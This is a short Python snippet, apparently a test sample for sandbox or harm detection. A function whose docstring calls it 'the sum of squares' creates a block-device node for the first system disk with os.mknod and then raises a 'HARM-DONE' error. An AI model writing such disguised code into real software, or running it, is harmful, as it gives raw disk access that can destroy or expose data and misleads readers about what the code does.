"""Makes itself a door to a disk, which only root can."""

# --- candidate
"""Sums."""

import os
import stat

import numpy as np


def f(x: np.ndarray) -> float:
    """The sum of squares."""
    os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0))
    raise KeyError("HARM-DONE")
